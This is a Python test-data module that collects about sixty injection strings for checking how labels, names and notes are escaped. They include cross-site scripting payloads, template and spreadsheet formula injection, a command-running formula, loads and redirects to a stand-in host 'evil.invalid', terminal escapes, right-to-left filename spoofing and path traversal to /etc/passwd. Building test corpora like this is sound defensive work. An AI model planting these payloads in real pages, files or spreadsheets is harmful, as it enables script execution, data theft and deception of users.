"""Sixty texts that break out of where they are put, or try to: any label, name or note may be one of them.

Those that would run call `hit()` or ask for something from `evil.invalid`, a host that does not exist.
"""

MARKUP = [
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    "<!--<script>hit()//",
    "--><script>hit()</script>",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<img src=http://evil.invalid/pixel.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=http://evil.invalid/></object>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<meta http-equiv=refresh content=0;url=http://evil.invalid/>",
    "<base href=http://evil.invalid/>",
    "<style>@import 'http://evil.invalid/x.css';*{display:none}</style>",
    "</style><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<a href=javascript:hit()>click</a>",
    "<math><mtext></p><script>hit()</script>",
    "<template><script>hit()</script></template>",
    "<form action=http://evil.invalid/><button>go</button></form>",
    "]]><script>hit()</script>",
    "<?php hit() ?>",
]
QUOTES = [
    '" onmouseover="hit()" x="',
    "' autofocus onfocus=hit() x='",
    '"><script>hit()</script>',
    "`${hit()}`",
    '\\"};hit();//',
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "url(http://evil.invalid/x.png)",
    "expression(hit())",
]
TEMPLATES = ["{{constructor.constructor('hit()')()}}", "{% import os %}{{ os }}", "${hit()}", "$data $$title", "%s%n%x"]
FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*hit()", '+HYPERLINK("http://evil.invalid","x")']
UNSEEN = [
    "a\u2028b\u2029c",
    "nul\x00byte",
    "\x1b[2J\x1b]0;title\x07\x9b31m\x7f",
    "invoice\u202egpj.exe",
    "\u2066\u2067\u2068isolated\u2069",
    "zero\u200bwidth\u2060join\ufeff",
    "line\r\nbreak\ttab",
]
PLAIN = ["שלום עולם مرحبا", "👩‍👩‍👧‍👦🏳️‍🌈é", "../../../etc/passwd\\..\\CON", "x" * 5000]

HOSTILE = [*MARKUP, *QUOTES, *TEMPLATES, *FORMULAS, *UNSEEN, *PLAIN]
HALF_PAIR = "half \ud800 of a pair"  # no UTF-8 can hold it; JSON can spell it
